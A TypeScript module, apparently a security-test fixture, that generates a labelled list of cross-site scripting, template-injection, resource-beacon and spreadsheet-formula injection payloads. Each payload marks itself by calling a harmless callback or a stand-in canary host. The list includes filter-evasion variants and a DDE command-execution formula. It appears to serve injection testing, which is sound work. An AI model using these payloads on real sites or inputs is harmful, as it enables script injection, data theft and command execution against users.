/**
 * Texts that run a script wherever they are taken for markup, an address, a template, a style or a formula. Each says
 * where it came from by calling `ran` with `source`, or asks a machine named `canary.example`.
 */
export function payloadsFor(source: string): readonly string[] {
  const call = `ran('${source}')`;
  const coded = `ran(&#39;${source}&#39;)`;
  const canary = `http://canary.example/${source}`;
  return [
    ...elements(call),
    ...handlers(call),
    ...breakouts(call, coded),
    ...templates(call),
    ...loads(canary),
    ...formulas(canary),
    ...scrambled(call, canary),
  ];
}

const elements = (call: string): readonly string[] => [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT >`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg/onload="${call}">`,
  `<svg><animate onbegin="${call}" attributeName="x" dur="1s">`,
  `<svg><a xlink:href="javascript:${call}"><text x="0" y="9">a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${call}'/>#x"/></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${call}">`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<template><script>${call}</script></template>`,
];

const handlers = (call: string): readonly string[] => [
  `<img src=x onerror="${call}">`,
  `<img src=x onerror=${call}//`,
  `<IMG """><img src=x onerror="${call}">`,
  `<img/src=x/onerror=${call}>`,
  `<video><source onerror="${call}"></video>`,
  `<audio src=x onerror="${call}">`,
  `<body onload="${call}">`,
  `<input autofocus onfocus="${call}">`,
  `<select autofocus onfocus="${call}"></select>`,
  `<details open ontoggle="${call}">`,
  `<marquee onstart="${call}">`,
  `<div onpointerover="${call}">over</div>`,
  `<x contenteditable onblur="${call}" autofocus tabindex=1>`,
  `<style>@keyframes k{}</style><b style="animation:k" onanimationstart="${call}"></b>`,
];

const breakouts = (call: string, coded: string): readonly string[] => [
  `"><img src=x onerror="${call}">`,
  `'><img src=x onerror="${call}">`,
  `" autofocus onfocus="${call}" x="`,
  `' autofocus onfocus='${coded}' x='`,
  `--><img src=x onerror="${call}">`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `'-${call}-'`,
  `";${call};//`,
  `\\";${call};//`,
  `&lt;img src=x onerror="${call}"&gt;`,
];

const templates = (call: string): readonly string[] => [
  `{{constructor.constructor("${call}")()}}`,
  `{{$on.constructor("${call}")()}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `[[${call}]]`,
];

const loads = (canary: string): readonly string[] => [
  `<img src="${canary}">`,
  `<link rel="stylesheet" href="${canary}">`,
  `<style>@import '${canary}';</style>`,
  `<div style="background:url(${canary})">d</div>`,
  `<base href="${canary}/">`,
  `<meta http-equiv="refresh" content="0;url=${canary}">`,
  `![x](${canary})`,
];

const formulas = (canary: string): readonly string[] => [
  `=HYPERLINK("${canary}","x")`,
  `+cmd|' /C calc'!A0 <img src="${canary}">`,
  `-2+3 <img src="${canary}">`,
  `@SUM(1) <img src="${canary}">`,
];

const scrambled = (call: string, canary: string): readonly string[] => [
  `javascript:${call}`,
  `java\tscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `\u202e<img src=x onerror="${call}">`,
  `<img src=x onerror\u000b="${call}">`,
  `<a href="javascript:${call}">a</a>`,
  `<form action="${canary}"><button>b</button></form>`,
];
